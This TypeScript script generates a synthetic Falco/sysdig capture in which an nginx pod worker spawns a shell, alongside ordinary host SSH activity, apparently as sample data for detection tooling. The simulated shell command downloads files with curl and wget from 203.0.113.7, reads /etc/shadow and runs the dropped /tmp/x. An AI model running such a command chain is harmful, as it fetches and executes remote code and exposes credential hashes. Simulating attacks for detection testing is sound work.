/**
 * Writes samples/story.scap: the story of samples/story.jsonl as a Falco/sysdig capture. An
 * nginx pod (`nginx-test`) whose worker spawns `sh -c` → curl, wget (a failed exec first), cat
 * /etc/shadow and a dropped /tmp/x that outlives the shell, next to host activity (sshd → bash →
 * ls, ps, cat, top, with pid reuse).
 *
 *   node --import tsx bench/make-story-scap.ts [OUT]      (default: samples/story.scap)
 */
import { writeFileSync } from 'node:fs';
import { CL, buildCapture } from '../test/support/scap-writer/capture-builder.js';

const CID = '3f9a1c0e2b7d6a5f4e3d2c1b0a9f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7';
const POD_UID = '5d1e2c3b-8a7f-4e6d-9c0b-1a2b3c4d5e6f';
const cgroups = ['cpu', 'memory', 'pids'].map((c) => `${c}=/kubepods/besteffort/pod${POD_UID}/${CID}`);
const IN_POD = CL.CHILD_IN_PIDNS;

export function storyScap(): Buffer {
  return buildCapture(
    {
      hostname: 'node-1',
      startTs: 1_732_800_000_000_000_000n,
      users: [
        { uid: 0, name: 'root', home: '/root', shell: '/bin/bash' },
        { uid: 101, name: 'nginx', home: '/nonexistent', shell: '/usr/sbin/nologin' },
        { uid: 1000, name: 'alice', home: '/home/alice', shell: '/bin/bash' },
      ],
      threads: [
        { tid: 1, pid: 1, ptid: 0, comm: 'systemd', exe: '/sbin/init', exepath: '/usr/lib/systemd/systemd', args: ['splash'] },
        { tid: 812, pid: 812, ptid: 1, comm: 'containerd', exe: '/usr/bin/containerd', exepath: '/usr/bin/containerd' },
        { tid: 901, pid: 901, ptid: 1, comm: 'sshd', exe: '/usr/sbin/sshd', exepath: '/usr/sbin/sshd', args: ['-D'] },
        {
          tid: 2301,
          pid: 2301,
          ptid: 1,
          comm: 'containerd-shim',
          exe: '/usr/bin/containerd-shim-runc-v2',
          exepath: '/usr/bin/containerd-shim-runc-v2',
          args: ['-namespace', 'k8s.io', '-id', CID, '-address', '/run/containerd/containerd.sock'],
        },
        {
          tid: 2330,
          pid: 2330,
          ptid: 2301,
          vtid: 1,
          vpid: 1,
          comm: 'nginx',
          exe: 'nginx: master process nginx -g daemon off;',
          exepath: '/usr/sbin/nginx',
          cgroups,
        },
        {
          tid: 2351,
          pid: 2351,
          ptid: 2330,
          vtid: 29,
          vpid: 29,
          comm: 'nginx',
          exe: 'nginx: worker process',
          exepath: '/usr/sbin/nginx',
          uid: 101,
          gid: 101,
          cgroups,
        },
        {
          tid: 2352,
          pid: 2352,
          ptid: 2330,
          vtid: 30,
          vpid: 30,
          comm: 'nginx',
          exe: 'nginx: worker process',
          exepath: '/usr/sbin/nginx',
          uid: 101,
          gid: 101,
          cgroups,
        },
      ],
    },
    (b) => {
      b.container({
        id: CID,
        name: 'nginx',
        image: 'docker.io/library/nginx:latest',
        labels: { app: 'nginx', 'io.kubernetes.pod.name': 'nginx-test', 'io.kubernetes.pod.namespace': 'default', 'io.kubernetes.pod.uid': POD_UID },
      });
      // host: alice logs in over ssh
      b.tick(2_000_000_000n);
      b.fork(901, 3100, { uid: 1000, cwd: '/home/alice' }).exec(3100, { filename: '/usr/bin/bash', argv0: '-bash', comm: 'bash', loginuid: 1000 });
      b.filler(3100, 20);
      b.tick(4_000_000_000n);
      b.fork(3100, 3105)
        .exec(3105, { filename: '/usr/bin/ls', argv0: 'ls', args: ['-la', '/home/alice'] })
        .filler(3105, 10)
        .exit(3105);
      b.tick(3_000_000_000n);
      b.fork(3100, 3106)
        .exec(3106, { filename: '/usr/bin/ps', argv0: 'ps', args: ['aux'] })
        .filler(3106, 30)
        .exit(3106);
      // the pod: a worker thread, then the worker spawns a shell
      b.tick(1_000_000_000n);
      b.fork(2351, 2360, { flags: CL.THREAD | CL.VM | CL.FILES | CL.FS | CL.SIGHAND | IN_POD, vtid: 31 });
      b.filler(2351, 20);
      b.tick(5_000_000_000n);
      b.fork(2351, 4001, { vtid: 31, flags: IN_POD }).exec(4001, {
        filename: '/bin/sh',
        exepath: '/bin/sh',
        argv0: '/bin/sh',
        args: ['-c', 'curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &'],
      });
      b.fork(4001, 4002, { kind: 'vfork', vtid: 32, flags: IN_POD, sides: ['child', 'caller'] })
        .exec(4002, { filename: '/usr/bin/curl', argv0: 'curl', args: ['-s', '-o', '/tmp/x', 'http://203.0.113.7/x'] })
        .filler(4002, 40);
      b.tick(800_000_000n);
      b.exit(4002);
      b.fork(4001, 4003, { kind: 'vfork', vtid: 33, flags: IN_POD, sides: ['child', 'caller'] })
        .exec(4003, { filename: '/usr/local/sbin/wget', argv0: 'wget', args: ['-q', '-O', '/tmp/y', 'http://203.0.113.7/y'], res: -2 })
        .exec(4003, { filename: '/usr/bin/wget', argv0: 'wget', args: ['-q', '-O', '/tmp/y', 'http://203.0.113.7/y'] })
        .filler(4003, 40);
      b.tick(600_000_000n);
      b.exit(4003);
      b.fork(4001, 4004, { kind: 'vfork', vtid: 34, flags: IN_POD, sides: ['child', 'caller'] })
        .exec(4004, { filename: '/usr/bin/cat', argv0: 'cat', args: ['/etc/shadow'] })
        .exit(4004, 1 << 8);
      b.fork(4001, 4005, { vtid: 35, flags: IN_POD });
      b.exit(4001);
      // /tmp/x runs after its shell is gone: re-parented to nginx's master (the pod's subreaper)
      b.exec(4005, { filename: '/tmp/x', argv0: '/tmp/x', ptid: 2330 }).filler(4005, 30);
      // host again, with pid reuse of 3105 and of 4002
      b.tick(3_000_000_000n);
      b.fork(3100, 3105)
        .exec(3105, { filename: '/usr/bin/cat', argv0: 'cat', args: ['/etc/hostname'] })
        .exit(3105);
      b.tick(2_000_000_000n);
      b.fork(3100, 4002)
        .exec(4002, { filename: '/usr/bin/top', argv0: 'top', args: ['-b', '-n', '1'] })
        .filler(4002, 20)
        .exit(4002);
      b.tick(10_000_000_000n);
      b.exit(4005, 9);
      b.tick(5_000_000_000n);
      b.exit(3100);
    },
  );
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const out = process.argv[2] ?? new URL('../samples/story.scap', import.meta.url).pathname;
  writeFileSync(out, storyScap());
  process.stdout.write(`wrote ${out}\n`);
}
